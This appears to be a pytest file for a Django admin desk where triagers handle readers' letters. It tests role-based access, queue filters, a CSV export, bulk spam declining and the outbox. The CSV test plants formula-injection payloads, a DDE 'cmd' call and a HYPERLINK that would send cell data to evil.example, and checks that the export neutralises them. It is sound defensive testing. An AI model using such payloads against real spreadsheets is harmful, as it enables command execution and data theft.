"""The triagers' rooms around a letter: who is let in, the queue, its table, advertising, the outbox, the first page."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from html import unescape
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from contributions import triage
from contributions.actions import outbox, triaging
from contributions.admin import queue
from contributions.admin.summary import waiting_summary
from contributions.models import Contribution, LedgerEntry, OutgoingMail
from evidence.models import AuditEvent
from tests import factories
from tests.factories import letters, person, publish

pytestmark = pytest.mark.django_db

MARKER = "A marker that nobody else may read"
QUEUE = "/admin/letters/"


def browser_of(name: str, *roles: str, **more: Any) -> Client:
    """A browser in which this person is signed in, with these roles alone."""
    return factories.browser_of(name, roles=roles, **more)


def triager(name: str = "triager") -> Client:
    return browser_of(name, "Triager")


def page(client: Client, address: str, status: int = 200) -> str:
    response = client.get(address)
    html = unescape(response.content.decode())
    assert response.status_code == status, html
    return html


# --- Who is let in ---------------------------------------------------------------------------------------

PEOPLE: dict[str, tuple[tuple[str, ...], dict[str, bool]]] = {
    "triager": (("Triager",), {}),
    "superuser who is a triager": (("Triager",), {"is_superuser": True}),
    "superuser": ((), {"is_superuser": True}),
    "administrator": (("Administrator",), {}),
    "editor": (("Editor",), {}),
    "coder": (("Coder and reviewer",), {}),
    "publisher": (("Publisher",), {}),
    "nobody in particular": ((), {}),
    "triager who is not on the staff": (("Triager",), {"is_staff": False}),
}
READS, COUNTS, REFUSED, SIGN_IN = "reads", "counts", "refused", "sign in"
EXPECTED = {
    "triager": READS,
    "superuser who is a triager": READS,
    "superuser": COUNTS,
    "administrator": COUNTS,
    "editor": REFUSED,
    "coder": REFUSED,
    "publisher": REFUSED,
    "nobody in particular": REFUSED,
    "triager who is not on the staff": SIGN_IN,
}


@pytest.mark.parametrize("who", PEOPLE)
def test_who_sees_what(who: str) -> None:
    study_page = publish()
    found = letters.letter(
        MARKER, page=study_page, source=f"{MARKER} s", passage=f"{MARKER} p", contact="marker@reader.example",
        contact_use="questions", state="triaged",
    )  # fmt: skip
    triaging.note(contribution=found, by=person("triager"), text=f"{MARKER} n")
    roles, more = PEOPLE[who]
    client = browser_of(who, *roles, **more)
    letter = f"{QUEUE}{found.pk}"
    for address in (QUEUE, f"{QUEUE}queue.csv", f"{QUEUE}advertising?letter={found.pk}", letter, f"{letter}/share"):
        response = client.get(address)
        told = unescape(response.content.decode())
        opens = address in (letter, f"{letter}/share")
        assert (MARKER in told) == (EXPECTED[who] == READS and opens), address
        assert ("marker@reader.example" in told) == (EXPECTED[who] == READS and address == letter), address
        if EXPECTED[who] == SIGN_IN:
            assert response.status_code == 302
            assert response.url.startswith("/admin/login/")
        elif EXPECTED[who] == READS or (EXPECTED[who] == COUNTS and address == QUEUE):
            assert response.status_code == 200, address
        else:
            assert response.status_code == 403, address
            assert "Letters are private." in told
    reads = AuditEvent.objects.filter(action="contribution.read")
    assert reads.count() == (2 if EXPECTED[who] == READS else 0)


def test_nobody_but_a_triager_can_send_anything() -> None:
    found = letters.letter(state="triaged")
    for who, (roles, more) in PEOPLE.items():
        if EXPECTED[who] == READS:
            continue
        client = browser_of(who, *roles, **more)
        for address, data in (
            (f"{QUEUE}{found.pk}", {"_do": "decline", "decline_reason": "not_in_scope"}),
            (f"{QUEUE}{found.pk}/share", {"_do": "share", "copy": "A copy"}),
            (f"{QUEUE}advertising", {"confirm": "yes", "letter": found.pk}),
        ):
            assert client.post(address, data).status_code in (302, 403), (who, address)
    found.refresh_from_db()
    assert found.state == "triaged"
    assert not found.entries.filter(voice="shared").exists()


def test_who_may_only_count_sees_states_and_nothing_of_a_letter() -> None:
    study_page = publish()
    letters.letter(page=study_page)
    letters.letter(state="quarantine")
    told = page(browser_of("chief", is_superuser=True), QUEUE)
    assert "Received</th><td>1<" in told
    assert "Held back by a filter; a person looks at it</th><td>1<" in told
    assert study_page.title not in told
    assert triage.KINDS["text_error"] not in told


# --- The queue -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("state", "tabs"),
    [
        ("received", {"waiting"}),
        ("quarantine", {"quarantine"}),
        ("triaged", {"mine", "checked"}),
        ("needs_information", {"asked"}),
        ("accepted", {"agreed"}),
        ("linked", {"agreed"}),
        *((state, {"closed"}) for state in sorted(triage.CLOSED)),
    ],
)
def test_each_state_has_its_part_of_the_queue(state: str, tabs: set[str]) -> None:
    found = letters.letter(state=state)
    client = triager()
    link = f'href="{QUEUE}{found.pk}"'
    assert {name for name in queue.TABS if link in page(client, f"{QUEUE}?tab={name}")} == tabs


def test_a_letter_whose_lease_has_lapsed_waits_again() -> None:
    ago = timezone.now() - timedelta(hours=49)
    found = letters.letter(now=ago - timedelta(hours=1))
    triaging.take(contribution=found, by=letters.triager("colleague"), now=ago)
    client = triager()
    assert "the time of Colleague is over" in page(client, f"{QUEUE}?tab=waiting")
    assert "Nothing is here" in page(client, f"{QUEUE}?tab=checked")


def test_the_oldest_stands_first_with_its_age_kind_study_and_lease() -> None:
    now = timezone.now()
    study_page = publish()
    new = letters.letter(now=now - timedelta(hours=3), kind="wording")
    old = letters.letter(now=now - timedelta(days=12), page=study_page)
    told = page(triager(), QUEUE)
    assert told.index(f"Letter {old.pk}:") < told.index(f"Letter {new.pk}:")
    assert "12 days old" in told
    assert f"about {study_page.title}, page number 1" in told
    triaging.take(contribution=old, by=letters.triager("colleague"))
    assert "taken by Colleague for another 47 hours" in page(triager(), f"{QUEUE}?tab=checked")
    triaging.take(contribution=new, by=person("triager"))
    assert "yours for another 47 hours" in page(triager(), f"{QUEUE}?tab=mine")


def test_why_a_filter_held_it_back_stands_beside_it() -> None:
    letters.letter(state="quarantine")
    assert f"Held back, because {triage.HELD_BECAUSE['honeypot']}" in page(triager(), f"{QUEUE}?tab=quarantine")


def test_the_queue_can_be_narrowed() -> None:
    now = timezone.now()
    study_page = publish()
    one = letters.letter(page=study_page, now=now - timedelta(days=9))
    other = letters.letter(kind="wording", now=now - timedelta(hours=2))
    client = triager()

    def shown(query: str) -> set[int]:
        told = page(client, f"{QUEUE}?{query}")
        return {found.pk for found in (one, other) if f'href="{QUEUE}{found.pk}"' in told}

    assert shown("kind=wording") == {other.pk}
    assert shown(f"study={study_page.study_id}") == {one.pk}
    assert shown("study=none") == {other.pk}
    assert shown("age=7") == {one.pk}
    assert shown("assignee=none") == {one.pk, other.pk}
    assert shown("kind=%3Cscript%3E&study=99999999999999&age=x&page=zz&assignee=%00".replace("%00", "1e9")) == {
        one.pk, other.pk,
    }  # fmt: skip
    triaging.take(contribution=one, by=letters.triager("colleague"))
    assert shown(f"tab=checked&assignee={person('colleague').pk}") == {one.pk}


def test_the_queue_comes_in_pages_and_costs_the_same_however_long() -> None:
    client = triager()
    study_page = publish()
    letters.letter(page=study_page)
    page(client, QUEUE)
    with CaptureQueriesContext(connection) as few:
        page(client, QUEUE)
    for number in range(4):
        letters.letter(page=study_page, message=f"Another number is wrong too: {number}.")
    with CaptureQueriesContext(connection) as more:
        page(client, QUEUE)
    assert len(few) == len(more)
    queue_size = queue.PAGE_SIZE
    try:
        queue.PAGE_SIZE = 2
        told = page(client, f"{QUEUE}?page=2&kind=text_error")
        assert "Page 2 of 3" in told
        assert 'href="?tab=waiting&kind=text_error&page=3"' in told
    finally:
        queue.PAGE_SIZE = queue_size


# --- The table -------------------------------------------------------------------------------------------


def test_the_table_runs_no_formula_and_holds_no_message() -> None:
    found = letters.letter(
        f"=cmd|' /C calc'!A0 {MARKER}", page=publish(), source=f"={MARKER}", passage=f"@{MARKER}",
        contact="marker@reader.example", contact_use="outcome",
    )  # fmt: skip
    colleague = letters.triager("colleague")
    colleague.public_name = '=HYPERLINK("https://evil.example/"&A1)'
    colleague.save()
    triaging.take(contribution=found, by=colleague)
    response = triager().get(f"{QUEUE}queue.csv?tab=checked")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    assert "arker" not in text
    head, row = csv.reader(io.StringIO(text))
    assert dict(zip(head, row, strict=True))["checked by"] == "'" + colleague.public_name
    assert row[0] == str(found.pk)
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]


# --- Advertising -----------------------------------------------------------------------------------------


def test_advertising_is_looked_at_first_and_then_declined_together() -> None:
    spam = [letters.letter("Buy our pills now.", state="quarantine") for _ in range(2)]
    real = letters.letter("The table has another number.", state="quarantine")
    other = letters.letter()
    client = triager()
    query = "&".join(f"letter={one.pk}" for one in (*spam, real, other))
    told = page(client, f"{QUEUE}advertising?{query}")
    assert "Nothing has been done yet." in told
    assert "Buy our pills now." in told
    assert "It is not held back: it is received." in told
    assert Contribution.objects.filter(state="declined").count() == 0
    assert AuditEvent.objects.filter(action="contribution.read").count() == 3
    triaging.release(contribution=spam[1], by=person("triager"))
    chosen = {"letter": [spam[0].pk, spam[1].pk], "confirm": "yes"}
    told = unescape(client.post(f"{QUEUE}advertising", chosen).content.decode())
    assert "1 done, 1 not done." in told
    assert "somebody has looked at it since" in told
    assert list(Contribution.objects.filter(state="declined", decline_reason="advertising")) == [spam[0]]
    assert not LedgerEntry.objects.exists()


def test_a_preview_without_the_confirmation_does_nothing_and_too_many_are_refused() -> None:
    found = letters.letter(state="quarantine")
    client = triager()
    assert client.post(f"{QUEUE}advertising", {"letter": found.pk}).status_code == 200
    assert Contribution.objects.get().state == "quarantine"
    query = "&".join(f"letter={number}" for number in range(1, 30))
    assert "at most 20" in page(client, f"{QUEUE}advertising?{query}", 400)
    assert "No letter was chosen." in page(client, f"{QUEUE}advertising?letter=x&letter=")


# --- The outbox and the ledger ---------------------------------------------------------------------------

MAILS = "/admin/contributions/outgoingmail/"


@pytest.fixture
def lost_mail() -> OutgoingMail:
    """A notice whose sender died while handing it over."""
    letters.letter(state="needs_information", contact="marker@reader.example", contact_use="questions")
    mail = OutgoingMail.objects.get()
    OutgoingMail.objects.filter(pk=mail.pk).update(state="unconfirmed")
    return mail


def test_the_outbox_shows_what_happened_and_no_address(lost_mail: OutgoingMail) -> None:
    for client in (triager(), browser_of("chief", "Administrator"), browser_of("root", is_superuser=True)):
        for address in (MAILS, f"{MAILS}{lost_mail.pk}/change/"):
            told = page(client, address)
            assert "a sender died while handing it over" in told
            assert "marker@reader.example" not in told
            assert (lost_mail.to_sealed or "?") not in told
        assert client.get(f"{MAILS}add/").status_code == 403
        assert client.post(f"{MAILS}{lost_mail.pk}/delete/", {"post": "yes"}).status_code == 403
        assert client.get(f"{MAILS}?to_sealed__startswith=g").status_code in (302, 400)
    assert page(browser_of("editor", "Editor"), MAILS, 403)


@pytest.mark.parametrize(("action", "state"), [("send_again", "waiting"), ("drop", "dropped")])
def test_a_triager_decides_about_a_mail_that_may_have_left(lost_mail: OutgoingMail, action: str, state: str) -> None:
    chosen = {"action": action, "_selected_action": [lost_mail.pk]}
    browser_of("chief", "Administrator").post(MAILS, chosen)
    lost_mail.refresh_from_db()
    assert lost_mail.state == "unconfirmed"
    assert "1 mail will" in unescape(triager().post(MAILS, chosen, follow=True).content.decode())
    lost_mail.refresh_from_db()
    assert lost_mail.state == state
    again = unescape(triager().post(MAILS, {**chosen, "action": "send_again"}, follow=True).content.decode())
    assert "Nothing is to be decided about this mail." in again
    assert outbox.OutgoingMail.objects.count() == 1


def test_the_ledger_can_be_seen_and_not_changed() -> None:
    letters.letter(state="declined")
    entry = LedgerEntry.objects.get()
    address = "/admin/contributions/ledgerentry/"
    client = browser_of("editor", "Editor")
    assert "looked at, and not changed" in page(client, address)
    assert client.post(f"{address}{entry.pk}/delete/", {"post": "yes"}).status_code == 403
    assert client.get("/admin/contributions/contribution/").status_code == 404
    assert page(browser_of("nobody"), address, 403)


# --- The first page of the desk --------------------------------------------------------------------------


def test_the_summary_tells_each_person_what_awaits_them() -> None:
    now = timezone.now()
    letters.letter(now=now - timedelta(days=3))
    letters.letter(state="quarantine")
    letters.letter(state="triaged")
    account = person("triager")
    summary = waiting_summary(account)
    assert summary is not None
    assert [(line.number, line.title) for line in summary.lines] == [
        (1, "Letters: waiting"), (1, "Letters: held back"), (1, "Letters: yours"),
    ]  # fmt: skip
    assert summary.oldest == "3 days"
    client = triager()
    for line in summary.lines:
        assert line.title.partition(": ")[2].capitalize() in page(client, line.address)
    chief = waiting_summary(person("chief", roles=["Administrator"]))
    assert chief is not None
    assert (chief.open, chief.lines, chief.may_read) == (2, (), False)
    assert waiting_summary(person("editor", roles=["Editor"])) is None


# --- Late forms ------------------------------------------------------------------------------------------


def test_what_was_typed_comes_back_when_the_session_has_ended() -> None:
    found = letters.letter(state="triaged")
    typed = {"_do": "reply", "text": "Two paragraphs, long thought about."}
    response = Client().post(f"{QUEUE}{found.pk}", typed, HTTP_SEC_FETCH_MODE="navigate")
    assert response.status_code == 403
    assert "Two paragraphs, long thought about." in response.content.decode()
    assert MARKER not in response.content.decode()
